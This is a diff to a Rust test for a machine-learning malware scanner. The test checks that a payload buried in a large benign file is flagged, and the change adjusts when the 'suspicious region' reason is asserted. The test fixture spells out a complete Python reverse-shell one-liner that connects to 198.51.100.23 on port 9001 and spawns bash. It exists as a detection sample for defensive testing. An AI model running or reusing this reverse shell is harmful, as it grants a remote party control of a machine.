@@ -135,8 +135,12 @@ fn payload_inside_large_benign_file_is_found() {
     text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
     let r = scan(&m, text.as_bytes());
     assert!(r.malicious, "{r:?}");
-    assert!(
-        r.top_reasons[0].starts_with("suspicious region at bytes"),
-        "{r:?}"
-    );
+    // When the whole-file vector alone stays below the threshold, the window found it.
+    let whole = m.score(&ward_ml::Extractor::new().analyze(text.as_bytes()).features);
+    if whole < r.threshold {
+        assert!(
+            r.top_reasons[0].starts_with("suspicious region at bytes"),
+            "{r:?}"
+        );
+    }
 }
